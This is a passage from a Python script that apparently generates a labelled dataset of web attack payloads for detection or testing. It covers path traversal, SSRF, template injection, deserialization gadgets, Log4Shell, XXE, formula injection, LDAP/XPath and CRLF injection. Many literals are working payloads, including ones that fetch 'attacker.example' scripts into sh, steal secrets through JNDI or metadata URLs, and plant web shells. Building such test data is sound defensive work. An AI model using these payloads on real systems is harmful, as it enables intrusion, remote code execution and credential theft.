        ("repo-viewer-path+nested-strip", "....//....//....//....//etc/shadow"),
        ("attachment-path-windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
        ("repo-viewer-path-prefixed-dotdot-environ", "src/../../../../proc/self/environ"),
        ("repo-viewer-proc-self-cwd-config", "/proc/self/cwd/config/database.yml"),
        ("template-include-path-dotdot", "../../../../../etc/passwd"),
        ("notebook-import-path-ssh-key", "../../.ssh/id_rsa"),
        ("archive-entry-zip-slip", "../../../../srv/app/.bashrc"),
        ("scss-playground-import-dotdot", "@import '../../../../../etc/passwd';"),
        ("latex-render-input-absolute", "\\input{/etc/passwd}"),
        ("latex-render-include-dotdot", "\\include{../../../../home/app/.aws/credentials}"),
        ("judge-c-include-absolute-file", "#include \"/etc/passwd\"\nint main(void) { return 0; }"),
        ("judge-rust-include-str-environ", "fn main() { print!(\"{}\", include_str!(\"/proc/self/environ\")); }"),
        ("judge-cpp-include-dotdot-expected", "#include \"../../testcases/42/expected.out\""),
        ("repo-viewer-path+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        ("repo-viewer-path+double-url-encoded", "..%252f..%252f..%252f..%252fetc%252fpasswd"),
        ("file-viewer-k8s-token-dotdot", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("file-viewer-tomcat-semicolon-dotdot", "..;/..;/WEB-INF/web.xml"),
        ("file-viewer-dotdot-webinf-properties", "../../WEB-INF/classes/application.properties"),
        ("repo-viewer-dotdot-git-config", "../.git/config"),
        ("attachment-path-windows-absolute-webconfig", "C:\\inetpub\\wwwroot\\web.config"),
        ("gist-raw-path+null-byte", "../../../etc/passwd%00.md"),
        ("markdown-pdf-export-image-file-uri", "![arch](file:///etc/passwd)"),
        ("profile-avatar-local-path-env", "/../../app/.env"),
        ("build-dockerfile-copy-outside-context", "COPY ../../../root/.aws/credentials /tmp/c"),
        ("gist-raw-path+unicode-backslash", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
        ("repo-viewer-dot-segments+encoded-dots", "/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
        ("judge-python-open-dotdot-tests", "print(open('../../judge/hidden_tests/case_07.out').read())"),
        ("log-viewer-dotdot-shell-history", "../../../../root/.bash_history"),
        ("snippet-import-mixed-separators", "..\\../..\\../etc/passwd"),
        ("asset-path-absolute-ssh-host-key", "/etc/ssh/ssh_host_ed25519_key"),
        ("plain-traversal-passwd", "../../../etc/passwd"),
        ("plain-traversal-windows", "..\\..\\..\\boot.ini"),
        ("plain-traversal-encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
        ("plain-traversal-proc", "/proc/self/environ"),
        ("plain-traversal+nested-strip", "....//....//....//etc/passwd"),
    ]
    prefixes = [("repo-viewer-path", "blob/main/"), ("gist-raw-path", "raw/"), ("lesson-asset-path", "assets/"), ("theme-import-path", "themes/"), ("locale-file", "locales/")]
    targets = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "srv/app/.env", "home/app/.aws/credentials", "var/lib/app/config/secrets.yml"]

    def gen():
        ctx, pre = pick(prefixes)
        depth = RNG.randint(3, 8)
        return "%s-dotdot" % ctx, pre + "../" * depth + pick(targets)
    return take(lit, gen, 45)


# ====================================================================== ssrf
def resp(*cmds):
    """Redis RESP encoding of commands (for a gopher:// body)."""
    out = ""
    for c in cmds:
        out += "*%d\r\n" % len(c) + "".join("$%d\r\n%s\r\n" % (len(a.encode()), a) for a in c)
    return out


def ssrf():
    lit = [
        ("import-from-url-aws-metadata-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("import-from-url-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("link-preview-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01&format=json"),
        ("avatar-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("import-from-url-metadata+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/user-data"),
        ("avatar-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
        ("link-preview-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/iam/"),
        ("webhook-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
        ("import-from-url-redis+short-ip", "http://127.1:6379/"),
        ("import-from-url-gopher-redis-write-cron", "gopher://127.0.0.1:6379/_" + q(resp(["FLUSHALL"], ["SET", "x", "\n\n*/1 * * * * curl -s https://attacker.example/c|sh\n\n"], ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs/"], ["CONFIG", "SET", "dbfilename", "root"], ["SAVE"]))),
        ("webhook-url-consul-agent", "http://localhost:8500/v1/agent/self"),
        ("import-from-url-k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("link-preview-internal-elasticsearch", "http://10.0.0.5:9200/_cat/indices?v"),
        ("webhook-url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
        ("avatar-url-attacker-dns-to-metadata", "http://metadata.attacker.example/latest/meta-data/"),
        ("import-from-url-open-redirect-to-metadata", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("link-preview-userinfo-parser-confusion", "http://trusted.example.com@169.254.169.254/latest/meta-data/"),
        ("link-preview-backslash-parser-confusion", "http://169.254.169.254\\@cdn.example.com/latest/meta-data/"),
        ("import-from-url-file-scheme", "file:///etc/passwd"),
        ("webhook-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
        ("avatar-url-zero-host-actuator", "http://0:8080/actuator/env"),
        ("webhook-url-loopback-heapdump", "http://127.0.0.1:8080/actuator/heapdump"),
        ("link-preview-ipv6-loopback-admin", "http://[::1]:3000/admin/users"),
        ("chat-message-link-preview-metadata", "this fixed it for me, see http://169.254.169.254/latest/meta-data/iam/security-credentials/ci-role"),
        ("repo-import-json-gcp-metadata-recursive", '{"import_url":"http://metadata.google.internal/computeMetadata/v1/?recursive=true&alt=json","name":"mirror"}'),
        ("gist-svg-rasterizer-image-href", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="400"><image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="600" height="400"/></svg>'),
        ("markdown-pdf-export-image-internal", "![status](http://127.0.0.1:9000/minio/admin/v3/info)"),
        ("webhook-url-prometheus-admin-delete", "http://127.0.0.1:9090/api/v1/admin/tsdb/delete_series?match[]={__name__=~\".+\"}"),
        ("import-from-url-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
        ("import-from-url-ipv6-imds", "http://[fd00:ec2::254]/latest/meta-data/"),
        ("link-preview-metadata+enclosed-alphanumerics", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
        ("avatar-url-apache-server-status", "http://localhost/server-status"),
        ("import-from-url-java-netdoc", "netdoc:///etc/passwd"),
        ("package-registry-url-internal-nexus", "http://10.0.0.12:8081/service/rest/v1/repositories"),
        ("link-preview-metadata+url-encoded-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("plain-ssrf-metadata", "http://169.254.169.254/"),
        ("plain-ssrf-localhost", "http://localhost:22/"),
        ("plain-ssrf-internal-range", "http://192.168.0.1/admin"),
        ("plain-ssrf-gcp", "http://metadata.google.internal/"),
    ]
    fields = [("avatar-url", "%s"), ("link-preview", "%s"), ("webhook-url", "%s"), ("import-from-url", "%s"), ("repo-mirror-url", "%s.git")]
    internal = ["http://127.0.0.1:%d/" % p for p in (5984, 8001, 9200, 15672, 6443)] + ["http://10.0.%d.%d/" % (RNG.randint(0, 9), RNG.randint(2, 250)) for _ in range(4)] + \
               ["http://172.16.%d.10:8080/internal/" % RNG.randint(0, 31), "http://192.168.%d.1/cgi-bin/" % RNG.randint(0, 9), "http://169.254.169.254/latest/dynamic/instance-identity/document"]

    def gen():
        ctx, fmt = pick(fields)
        return "%s-internal-host" % ctx, fmt % pick(internal).rstrip("/") if fmt.endswith(".git") else fmt % pick(internal)
    return take(lit, gen, 45)


# ====================================================================== code
def pickle_b64(cmd):
    return b64("cos\nsystem\n(S'%s'\ntR." % cmd)


def monolog_chain(cmd):
    p = lambda n: php_s("\0*\0" + n)
    buf = ('O:29:"Monolog\\Handler\\BufferHandler":7:{' + p("handler") + "r:2;" + p("bufferSize") + "i:-1;" + p("buffer") +
           "a:1:{i:0;a:2:{i:0;" + php_s(cmd) + php_s("level") + "N;}}" + p("level") + "N;" + p("initialized") + "b:1;" +
           p("bufferLimit") + "i:-1;" + p("processors") + "a:2:{i:0;" + php_s("current") + "i:1;" + php_s("system") + "}}")
    return 'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{' + p("socket") + buf + "}"


def code():
    lit = [
        # --- server-side template injection
        ("issue-title-jinja2-cycler-globals-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("notification-template-jinja2-lipsum-os", "{{ lipsum.__globals__['os'].popen('curl -s https://attacker.example/j | sh').read() }}"),
        ("profile-bio-jinja2-request-builtins-import", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
        ("email-template-jinja2-config-leak", "Hi {{ config.items() }}"),
        ("issue-template-jinja2-subclasses-popen", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
        ("issue-title-jinja2-attr-filter+hex-escapes", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
        ("comment-twig-filter-system", "{{ ['id']|filter('system') }}"),
        ("comment-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
        ("newsletter-twig1-register-undefined-filter", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('curl -s attacker.example/t|sh') }}"),
        ("report-title-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("report-footer-freemarker-object-constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\", [\"sh\", \"-c\", \"curl attacker.example/f|sh\"]).start()}"),
        ("release-notes-velocity-runtime-exec", "#set($rt=$class.forName(\"java.lang.Runtime\"))#set($p=$rt.getRuntime().exec(\"id\"))$p.waitFor()"),
        ("release-notes-velocity-string-class-forname", "#set($s=\"\")#set($r=$s.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null))$r.exec(\"touch /tmp/v\")"),
        ("view-name-thymeleaf-preprocessing-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("page-fragment-thymeleaf-selection-spel", "*{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
        ("label-template-spel-processbuilder", "${new java.lang.ProcessBuilder({'sh','-c','id > /tmp/spel'}).start()}"),
        ("signature-erb-backticks", "<%= `id` %>"),
        ("signature-erb-system", "<%= system(\"curl -s attacker.example/e | sh\") %>"),
        ("signature-erb-file-read", "<%= File.read(\"/etc/passwd\") %>"),
        ("signature-erb-io-popen", "<%= IO.popen('cat /proc/self/environ').read %>"),
        ("cshtml-snippet-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
        ("cshtml-snippet-razor-code-block", "@{ var psi = new System.Diagnostics.ProcessStartInfo(\"/bin/sh\", \"-c id\") { RedirectStandardOutput = true }; @System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd() }"),
        ("handlebars-title-constructor-chain", "{{#with this as |o|}}{{#with (lookup o \"constructor\") as |C|}}{{#with (lookup C \"constructor\") as |F|}}{{#with (F \"return process.mainModule.require('child_process').execSync('id').toString()\") as |fn|}}{{fn}}{{/with}}{{/with}}{{/with}}{{/with}}"),
        ("go-template-context-dump", "{{ printf \"%+v\" . }}"),
        ("go-template-method-call-secret", "{{ .Config.Database.Password }} {{ .Env.Getenv \"AWS_SECRET_ACCESS_KEY\" }}"),
        ("mako-expression-import-os", "${__import__('os').popen('id').read()}"),
        ("mako-python-block", "<% import os; os.system('curl -s attacker.example/m | sh') %>"),
        ("smarty-system-tag", "{system('id')}"),
        ("smarty-static-write-file", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
        ("pug-interpolation-child-process", "#{global.process.mainModule.require('child_process').execSync('id')}"),
        ("ejs-output-child-process", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
        ("nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("tornado-template-import-os", "{% import os %}{{ os.popen('id').read() }}"),
        # --- online judge / sandbox code execution
        ("judge-python-import-os-system", "__import__('os').system('curl -s https://attacker.example/p | sh')"),
        ("judge-python-subclasses-escape", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
        ("judge-python-getattr-builtins+string-split", "getattr(__builtins__, '__imp'+'ort__')('o'+'s').popen('cat /srv/judge/tests/*.out').read()"),
        ("judge-python-subprocess-read-expected", "import subprocess\nprint(subprocess.check_output(['cat', '/srv/judge/hidden/expected_07.txt']).decode())"),
        ("judge-python-exec-base64+base64", "exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('id > /tmp/judge')")),
        ("judge-node-child-process-execsync", "console.log(require('child_process').execSync('cat /etc/passwd').toString())"),
        ("judge-node-vm-constructor-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
        ("judge-node-module-load", "process.mainModule.constructor._load('child_process').exec('curl attacker.example/n | sh')"),
        ("judge-php-system", "<?php system($_GET['c'] ?? 'id'); ?>"),
        ("judge-php-shell-exec-echo", "<?php echo shell_exec('cat /srv/judge/tests/*'); ?>"),
        ("judge-php-assert-string", "assert('system(\"id\")');"),
        ("judge-ruby-kernel-exec", "Kernel.exec(\"/bin/sh\", \"-c\", \"curl -s attacker.example/r | sh\")"),
        ("judge-ruby-kernel-open-pipe", "puts Kernel.open(\"|cat /etc/passwd\").read"),
        ("judge-java-runtime-exec", "public class Main { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"curl attacker.example/j | sh\"}).waitFor(); } }"),
        ("judge-java-reflection-runtime", "Class<?> c = Class.forName(\"java.lang.\" + \"Runtime\");\nObject rt = c.getMethod(\"getRuntime\").invoke(null);\nc.getMethod(\"exec\", String.class).invoke(rt, \"touch /tmp/r\");"),
        ("judge-csharp-process-start", "using System.Diagnostics;\nclass P { static void Main() { Process.Start(\"/bin/bash\", \"-c \\\"cat /etc/passwd > /tmp/o\\\"\").WaitForExit(); } }"),
        ("judge-c-system-read-tests", "#include <stdlib.h>\nint main(void) { return system(\"cat /srv/judge/tests/*/output.txt\"); }"),
        ("judge-go-exec-command", "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"sh\", \"-c\", \"curl -s attacker.example/g | sh\").Run() }"),
        ("formula-field-python-eval", "__import__('subprocess').check_output(['id'])"),
        # --- expression languages
        ("rule-field-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("rule-field-mvel-runtime", "Runtime.getRuntime().exec(\"touch /tmp/mvel\")"),
        ("config-value-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/v')}"),
        ("jsp-field-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
        # --- deserialization
        ("settings-upload-xstream-eventhandler", "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>curl attacker.example/x | sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("settings-json-jackson-default-typing-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.66:1389/Exploit\",\"autoCommit\":true}]"),
        ("settings-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Obj\",\"autoCommit\":true}"),
        ("settings-json-jsonnet-type-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c powershell -nop -c iwr http://203.0.113.66/d\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
        ("editor-prefs-php-unserialize-monolog", monolog_chain("curl -s https://attacker.example/u | sh")),
        ("attachment-path-phar-wrapper", "phar:///var/www/uploads/avatars/7731.jpg/payload.txt"),
        ("session-blob-python-pickle+base64", pickle_b64("curl -s https://attacker.example/pk | sh")),
        ("ci-config-pyyaml-apply-os-system", "build:\n  image: !!python/object/apply:os.system [\"curl -s https://attacker.example/y | sh\"]"),
        ("ci-config-pyyaml-new-subprocess", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
        ("ci-config-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
        ("editor-state-node-serialize-iife", "{\"theme\":\"dark\",\"onLoad\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/ns | sh')}()\"}"),
        # --- Log4Shell
        ("issue-title-log4shell-ldap", "Crash on startup ${jndi:ldap://attacker.example:1389/a}"),
        ("commit-message-log4shell-dns-env-exfil", "fix typo ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.exfil.attacker.example/x}"),
        ("chat-nick-log4shell+lookup-nesting", "${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.66/o}"),
        ("user-agent-field-log4shell+default-value-nesting", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}"),
        ("gist-description-log4shell-sys-props", "${jndi:ldap://${sys:java.version}.${hostName}.exfil.attacker.example/v}"),
        # --- prototype pollution
        ("settings-json-proto-pollution-admin", "{\"editor\":{\"fontSize\":14},\"__proto__\":{\"isAdmin\":true}}"),
        ("settings-json-constructor-prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"owner\"}}}"),
        ("settings-json-proto-pollution-execargv-gadget", "{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--require=/proc/self/environ\",\"env\":{\"X\":\"console.log(require('child_process').execSync('id').toString())//\"}}}"),
        ("settings-json-proto-pollution-lodash-template-sourceurl", "{\"__proto__\":{\"sourceURL\":\"\\u2028\\u2029\\nglobal.process.mainModule.require('child_process').execSync('id')\"}}"),
        ("query-string-proto-pollution", "?__proto__[isAdmin]=true&constructor[prototype][canDeploy]=true"),
        # --- XXE in uploaded XML configs
        ("pom-upload-xxe-file-read", "<?xml version=\"1.0\"?>\n<!DOCTYPE project [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<project><modelVersion>4.0.0</modelVersion><groupId>&xxe;</groupId><artifactId>a</artifactId><version>1</version></project>"),
        ("webconfig-upload-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE configuration [<!ENTITY % remote SYSTEM \"http://attacker.example/e.dtd\"> %remote;]>\n<configuration/>"),
        ("svg-upload-xxe-hostname", "<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"40\"><text x=\"4\" y=\"20\">&h;</text></svg>"),
        ("manifest-upload-xxe-php-filter", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE manifest [<!ENTITY env SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/app/.env\">]>\n<manifest package=\"&env;\"/>"),
        ("xml-import-xinclude-file", "<project xmlns:xi=\"http://www.w3.org/2001/XInclude\"><description><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></description></project>"),
        ("nuget-config-upload-entity-expansion-dos", "<?xml version=\"1.0\"?>\n<!DOCTYPE c [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>\n<configuration><packageSources><add key=\"x\" value=\"&f;\"/></packageSources></configuration>"),
        ("xslt-upload-php-function", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('shell_exec','id')\"/></xsl:template></xsl:stylesheet>"),
        # --- formula injection in issue/CSV exports
        ("issue-title-csv-formula-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Open ticket\")"),
        ("issue-title-csv-formula-dde-cmd", "=cmd|' /C calc'!A0"),
        ("issue-title-csv-formula-at-sum-dde", "@SUM(1+1)*cmd|' /C powershell -nop -c iwr http://203.0.113.66/f'!A0"),
        ("issue-summary-csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&ENCODEURL(C3))"),
        ("issue-summary-csv-formula-importxml", "+IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:C5),\"//a\")"),
        # --- plain
        ("plain-code-log4shell", "${jndi:ldap://attacker.example/a}"),
        ("plain-code-jinja2-config", "{{config}}"),
        ("plain-code-python-import", "__import__('os').system('id')"),
        ("plain-code-erb-system", "<%= system('id') %>"),
        ("plain-code-proto-pollution", "{\"__proto__\":{\"admin\":true}}"),
        ("plain-code-formula-dde", "=cmd|'/C notepad'!A1"),
    ]
    engines = [("jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('%s').read() }}"),
               ("freemarker", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"%s\")}"),
               ("erb", "<%%= `%s` %%>"),
               ("twig", "{{ ['%s']|filter('system') }}"),
               ("velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"%s\")"),
               ("mako", "${__import__('os').popen('%s').read()}")]
    fields = ["issue-title", "email-template", "report-title", "profile-bio", "badge-label", "certificate-name"]
    cmds = ["id", "uname -a", "cat /etc/passwd", "env", "curl -s attacker.example/q", "nslookup x.exfil.attacker.example"]

    def gen():
        eng, tpl = pick(engines)
        return "%s-%s-rce" % (pick(fields), eng), tpl % pick(cmds)
    return take(lit, gen, 100)


# ================================================================ ldap-xpath
def ldap_xpath():
    lit = [
        ("people-search-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
        ("people-search-ldap-password-attr", "admin)(|(userPassword=*))"),
        ("sso-login-ldap-memberof-injection", "*)(memberOf=cn=admins,ou=groups,dc=example,dc=com"),
        ("people-search-ldap-objectclass", "dev*)(objectClass=*"),
        ("sso-login-ldap-always-true", "admin)(&)"),
        ("people-search-ldap-blind-description", "jdoe)(description=vpn*"),
        ("people-search-ldap+url-encoded", q("*)(mail=*))(|(cn=*")),
        ("xpath-tester-string-tautology", "' or '1'='1"),
        ("xml-snippet-search-xpath-union-breakout", "x'] | //user/password | //*['"),
        ("xml-snippet-search-xpath-count-probe", "' or count(//user)>0 or '"),
        ("xml-snippet-search-xpath-blind-substring", "' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
        ("config-lookup-xpath-name-length", "' or string-length(name(/*[1]))=6 or '"),
        ("plain-ldap-wildcard", "*)(|(objectclass=*)"),
        ("plain-xpath-double-quote", "\" or \"\"=\""),
    ]
    users = ["admin", "root", "svc-ci", "ktanaka", "mgarcia"]

    def gen():
        u = pick(users)
        if RNG.random() < 0.5:
            return "sso-login-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 3))))
        return "xpath-lookup-blind-substring", "%s' or substring(//user[name='%s']/token,%d,1)='%s' or 'a'='b" % (u, u, RNG.randint(1, 12), pick("abcdef0123456789"))
    return take(lit, gen, 15)


# ====================================================================== crlf
def crlf():
    lit = [
        ("webhook-header-value-set-cookie+url-encoded", "x%0d%0aSet-Cookie:%20session=attacker-fixed-0001;%20Path=/"),
        ("webhook-header-value-host-override", "application/json\r\nX-Forwarded-Host: attacker.example"),
        ("redirect-return-to-location-injection+url-encoded", "/questions/123%0d%0aLocation:%20https://attacker.example/"),
        ("redirect-param-response-splitting+url-encoded", "/login%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(document.domain)%3C/script%3E"),
        ("issue-title-log-forging", "login ok\n2024-06-01T12:00:00Z INFO user=admin action=grant_role role=owner target=mallory status=success"),
        ("export-filename-content-disposition-breakout", "report.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.cookie)</script>"),
        ("notification-email-bcc-injection", "dev@example.com\r\nBcc: all-users@example.com\r\nSubject: Password reset required"),
        ("redirect-param-unicode-crlf+utf8-low-byte-cr-lf", "/home%E5%98%8A%E5%98%8DSet-Cookie:%20admin=true"),
        ("webhook-header-host-to-metadata", "application/json\r\nHost: 169.254.169.254"),
        ("webhook-header-transfer-encoding-smuggling", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("cache-key-redis-protocol-injection", "user:1\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename x.php\r\nSET p \"<?php system($_GET[c]);?>\"\r\nSAVE\r\n"),
        ("build-log-commit-message-ansi-escape", "fix tests\u001b[2K\r\u001b[32m✔ all 412 checks passed\u001b[0m"),
        ("chat-message-log-forging-json-line", "hello\n{\"level\":\"info\",\"event\":\"payout_approved\",\"amount\":9999,\"approver\":\"cfo\"}"),
        ("user-agent-field-crlf-header", "Mozilla/5.0\r\nX-Admin: 1"),
        ("smtp-subject-header-injection", "Weekly digest\nContent-Type: text/html\n\n<a href=\"https://attacker.example/verify\">Verify your account</a>"),
        ("plain-crlf-set-cookie", "%0d%0aSet-Cookie:crlf=injected"),
        ("plain-crlf-raw-header", "\r\nX-Injected: 1"),
    ]
    hdrs = ["Set-Cookie: sid=attacker-%04d" % i for i in range(1, 9)] + ["Location: https://attacker.example/p%d" % i for i in range(1, 5)]

    def gen():
        base = pick(["/dashboard", "/gist/4f2a", "/lessons/12", "/issues/77"])
        h = pick(hdrs)
        if RNG.random() < 0.5:
            return "redirect-param-header-injection+url-encoded", base + "%0d%0a" + q(h)
        return "webhook-header-value-crlf", "text/plain\r\n" + h
    return take(lit, gen, 20)


CATEGORIES = [
    ("sqli", sqli),
    ("nosqli", nosqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("ldap-xpath", ldap_xpath),
    ("crlf", crlf),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha22-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d" % (cat, counts[cat]))
    print("%-10s %d" % ("total", len(rows)))


if __name__ == "__main__":
    main()
